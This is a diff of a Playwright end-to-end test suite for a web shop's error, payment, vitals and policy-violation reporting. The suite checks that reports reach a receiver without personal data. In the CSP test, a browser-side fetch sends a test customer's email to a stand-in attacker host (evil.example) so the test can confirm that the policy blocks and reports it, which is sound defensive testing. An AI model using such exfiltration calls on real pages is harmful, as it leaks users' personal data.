@@ -1,9 +1,8 @@
 import { readFileSync } from 'node:fs'
-import type { Page, Response } from '@playwright/test'
+import type { Page } from '@playwright/test'
 import { expect } from '#tests/e2e/fixtures.ts'
-import { reportUrl } from '#tests/e2e/reportingBuild.ts'
 import { cards, enterCard } from '#tests/e2e/real/support/cardProvider.ts'
-import { test, type Receiver } from '#tests/e2e/real/support/reportingShop.ts'
+import { reportUrl, test, type Receiver } from '#tests/e2e/real/support/reportingShop.ts'
 import { createAccount, placeOrder } from '#tests/e2e/real/support/world.ts'
 import { gzippedKB, readManifest, scriptsOf } from '#tests/support/bundle.ts'
 import { expectStarted, heading, logIn } from '#tests/e2e/steps.ts'
@@ -15,13 +14,11 @@ test.use({ isPainted: true })
 
 const rina = { name: 'Rina Akter', email: 'rina.akter@reports.example', password: 'Workshop!25' }
 
-/** The text of a script; empty for anything else. */
-const bodyOf = (response: Response): Promise<string> =>
-  response.url().endsWith('.js') ? response.text().catch(() => '') : Promise.resolve('')
-
 /** Opens a page, and waits until the reports' code is there. */
 async function open(page: Page, path: string): Promise<void> {
-  const isLoaded = page.waitForResponse(async (response) => (await bodyOf(response)).includes('reports+json'))
+  const isLoaded = page.waitForResponse(async (response) =>
+    response.url().endsWith('.js') ? (await response.text().catch(() => '')).includes('reports+json') : false,
+  )
   await page.goto(path)
   await expectStarted(page)
   await isLoaded
@@ -48,77 +45,31 @@ async function expectReports(receiver: Receiver, page: Page, ...expected: object
     expect(text).not.toContain(personal)
 }
 
-test(
-  'an error that nobody caught arrives once, without what a person typed',
-  { tag: '@release' },
-  async ({ page, receiver }) => {
-    await open(page, './parts?q=Rina')
-    await page.evaluate(
-      (text) =>
-        void setTimeout(() => {
-          throw new RangeError(text)
-        }),
-      `Invalid array length for "${rina.name}" ${rina.email}`,
-    )
-    await throwError(page, `${rina.name} is not a function`)
-    await throwError(page, `${rina.name} is not a function`)
-    const body = { page: 'parts', stack: [] }
-    await expectReports(
-      receiver,
-      page,
-      { type: 'error', body: { ...body, source: 'window', name: 'RangeError', message: 'invalid …' } },
-      { type: 'error', body: { ...body, source: 'promise', name: 'TypeError', message: '… is not a function' } },
-    )
-  },
-)
-
-test(
-  'an error that a boundary caught names its place in the shop’s files',
-  { tag: '@release' },
-  async ({ page, receiver }) => {
+test.describe('a shop that reports', { tag: '@release' }, () => {
+  test('an error in a page arrives once, with its place in the shop’s files, without what a person typed', async ({
+    page,
+    receiver,
+  }) => {
+    const error = `throw new TypeError('${rina.name} is not a function')`
     await page.route('**/assets/AboutRoute-*.js', (route) =>
-      route.fulfill({
-        contentType: 'text/javascript',
-        body: `export function AboutRoute() { throw new TypeError('${rina.name} is not a function') }`,
-      }),
+      route.fulfill({ contentType: 'text/javascript', body: `export function AboutRoute() { ${error} }` }),
     )
-    await open(page, './')
+    await open(page, './parts?q=Rina')
+    await throwError(page, `${rina.name} is not a function`)
+    await throwError(page, `${rina.name} is not a function`)
+    const thrown = { type: 'error', body: { source: 'promise', name: 'TypeError', message: '… is not a function' } }
+    await expectReports(receiver, page, thrown)
     await openFromMenu(page, 'About')
     await expect(heading(page, 'This could not be loaded')).toBeVisible()
-    await expectReports(receiver, page, {
-      type: 'error',
-      body: {
-        source: 'boundary',
-        name: 'TypeError',
-        page: 'about',
-        stack: expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)]),
-      },
-    })
-  },
-)
-
-test('code that the host no longer has', { tag: '@release' }, async ({ page, receiver }) => {
-  await page.route('**/assets/AboutRoute-*.js', (route) => route.fulfill({ status: 404 }))
-  await open(page, './')
-  await openFromMenu(page, 'About')
-  await expect(page.getByText('There is a new version of the shop.').first()).toBeVisible()
-  await expectReports(receiver, page, { type: 'missing-code', body: { reason: 'newVersion' } })
-})
-
-test('a call that failed for good, by name, kind and status', { tag: '@release' }, async ({ page, receiver }) => {
-  await page.route('**/api/parts', (route) => route.fulfill({ status: 403, body: `{"message":"${rina.email}"}` }))
-  await open(page, './contact')
-  await openFromMenu(page, 'Tools')
-  await expectReports(receiver, page, {
-    type: 'failed-call',
-    body: { call: 'getParts', kind: 'forbidden', status: 403, page: 'parts' },
+    const stack = expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)])
+    await expectReports(receiver, page, thrown, { type: 'error', body: { source: 'boundary', page: 'about', stack } })
   })
-})
 
-test(
-  'charged but not recorded, then recovered: with the ids by which it can be looked up',
-  { tag: '@release' },
-  async ({ page, receiver, cardProvider }) => {
+  test('charged but not recorded, then recovered: with the ids by which it can be looked up', async ({
+    page,
+    receiver,
+    cardProvider,
+  }) => {
     await createAccount(rina)
     const order = await placeOrder(rina, 'brake-rotor-345', 22)
     await page.route('**/api/mypurchase/*', (route) =>
@@ -129,100 +80,55 @@ test(
     await enterCard(page, cards.good)
     await page.getByRole('button', { name: /Payment Confirm/ }).click()
     await expect(page.getByText('Payment Success')).toBeVisible()
-    const unrecorded = {
-      type: 'payment',
-      body: { state: 'unrecorded', orderId: order, transactionId: expect.stringMatching(/^pi_\w+$/), page: 'payment' },
-    }
+    const transactionId = expect.stringMatching(/^pi_\w+$/)
     const failedCall = { type: 'failed-call', body: { call: 'recordPayment', kind: 'network', status: null } }
+    const unrecorded = { type: 'payment', body: { state: 'unrecorded', orderId: order, transactionId } }
     await expectReports(receiver, page, failedCall, unrecorded)
 
     await page.unroute('**/api/mypurchase/*')
     await page.goto('./dashboard/mypurchases')
     await expect(page.getByText(/All-Ready Paid/)).toBeVisible()
-    await expectReports(receiver, page, failedCall, unrecorded, {
-      type: 'payment',
-      body: { state: 'recovered', orderId: order },
-    })
+    const recovered = { type: 'payment', body: { state: 'recovered', orderId: order } }
+    await expectReports(receiver, page, failedCall, unrecorded, recovered)
     expect(cardProvider.charges).toHaveLength(1)
-  },
-)
+  })
 
-test(
-  'a violation of the page’s policy, by origin; what the host’s policy forbids, the browser reports',
-  { tag: '@release' },
-  async ({ page, receiver }) => {
+  test('a violation of the page’s policy, by origin', async ({ page, receiver }) => {
     await open(page, './')
-    await page.evaluate(async (email) => {
-      await fetch(`https://evil.example/collect?email=${email}`).catch(() => undefined)
-      document.head.append(
-        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
-      )
-    }, rina.email)
-    await expectReports(receiver, page, {
-      type: 'csp-violation',
-      body: {
-        effectiveDirective: 'connect-src',
-        blockedURL: 'https://evil.example',
-        disposition: 'enforce',
-        page: 'home',
-      },
-    })
-  },
-)
+    await page.evaluate(
+      (email) => fetch(`https://evil.example/collect?email=${email}`).then(String, () => null),
+      rina.email,
+    )
+    const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example', page: 'home' }
+    await expectReports(receiver, page, { type: 'csp-violation', body })
+  })
 
-test(
-  'the vitals of a visit’s first page, when it is left',
-  { tag: '@release' },
-  async ({ browser, reportingSite, receiver }) => {
+  test('the vitals of a visit’s first page, when it is left', async ({ browser, reportingSite, receiver }) => {
     const page = await browser.newPage()
     await open(page, `${reportingSite}parts?q=Rina`)
     await page.waitForLoadState('networkidle')
     await page.goto(`${reportingSite}about`)
-    await expect
-      .poll(() => receiver.vitals)
-      .toMatchObject([
-        {
-          url: `${reportingSite}parts`,
-          body: { LCP: expect.any(Number), CLS: expect.any(Number), TTFB: expect.any(Number), page: 'parts' },
-        },
-      ])
+    const body = { LCP: expect.any(Number), CLS: expect.any(Number), TTFB: expect.any(Number), page: 'parts' }
+    await expect.poll(() => receiver.vitals).toMatchObject([{ url: `${reportingSite}parts`, body }])
     await page.goto(`${reportingSite}contact`)
     await page.close()
     expect(receiver.vitals).toHaveLength(1)
-  },
-)
+  })
 
-test('what happens offline arrives when the line is back', { tag: '@release' }, async ({ page, context, receiver }) => {
-  await open(page, './contact')
-  await context.setOffline(true)
-  await throwError(page, 'x is not a function')
-  await expect.poll(() => page.evaluate(() => localStorage.getItem('dhruva.reports.v1'))).toContain('is not')
-  expect(receiver.reports).toEqual([])
-  await context.setOffline(false)
-  await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'contact' } })
-})
+  test('what happens offline arrives when the line is back', async ({ page, context, receiver }) => {
+    await open(page, './contact')
+    await context.setOffline(true)
+    await throwError(page, 'x is not a function')
+    await expect.poll(() => page.evaluate(() => localStorage.getItem('dhruva.reports.v1'))).toContain('is not')
+    expect(receiver.reports).toEqual([])
+    await context.setOffline(false)
+    await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'contact' } })
+  })
 
-for (const how of ['refusing', 'silently'] as const)
-  test(
-    `a receiver that answers ${how} changes nothing for the customer`,
-    { tag: '@release' },
-    async ({ page, receiver }) => {
-      receiver.answer(how)
-      await open(page, './')
-      await throwError(page, 'x is not a function')
-      await page.waitForRequest((request) => request.method() === 'POST')
-      for (const link of ['About Us', 'Contact']) {
-        await openFromMenu(page, link)
-        await expect(heading(page, new RegExp(link, 'i'))).toBeVisible()
-      }
-      expect(receiver.reports).toEqual([])
-    },
-  )
-
-test(
-  'a blocked receiver changes nothing, and gets the report on the next visit without the blocker',
-  { tag: '@release' },
-  async ({ page, receiver }) => {
+  test('a blocked receiver changes nothing, and gets the report on the next visit without the blocker', async ({
+    page,
+    receiver,
+  }) => {
     await page.route(`${reportUrl}**`, (route) => route.abort('blockedbyclient'))
     await open(page, './')
     await throwError(page, 'x is not a function')
@@ -234,16 +140,13 @@ test(
     await page.unroute(`${reportUrl}**`)
     await page.goto('./about')
     await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'home' } })
-  },
-)
+  })
 
-test('without VITE_REPORT_URL nothing of it is announced', { tag: '@release' }, () => {
-  expect(readFileSync('dist/_headers', 'utf8')).not.toMatch(/report/i)
-})
-
-test('the first load grows by 0.3 kB, and the rest has 5.5 kB (REPORT-3)', { tag: '@release' }, ({ reportingDir }) => {
-  const firstLoadOf = (dir: string) => gzippedKB(dir, scriptsOf(readManifest(dir), 'index.html'))
-  expect(firstLoadOf(reportingDir) - firstLoadOf('dist')).toBeLessThan(0.3)
-  const rest = Object.entries(readManifest(reportingDir)).find(([key]) => key.endsWith('/sendReports.ts'))
-  expect(gzippedKB(reportingDir, [rest?.[1].file ?? ''])).toBeLessThan(5.5)
+  test('the first load grows by 0.3 kB, and the rest has 5.5 kB (REPORT-3)', ({ reportingDir }) => {
+    expect(readFileSync('dist/_headers', 'utf8')).not.toMatch(/report/i)
+    const firstLoadOf = (dir: string) => gzippedKB(dir, scriptsOf(readManifest(dir), 'index.html'))
+    expect(firstLoadOf(reportingDir) - firstLoadOf('dist')).toBeLessThan(0.3)
+    const rest = Object.entries(readManifest(reportingDir)).find(([key]) => key.endsWith('/sendReports.ts'))
+    expect(gzippedKB(reportingDir, [rest?.[1].file ?? ''])).toBeLessThan(5.5)
+  })
 })
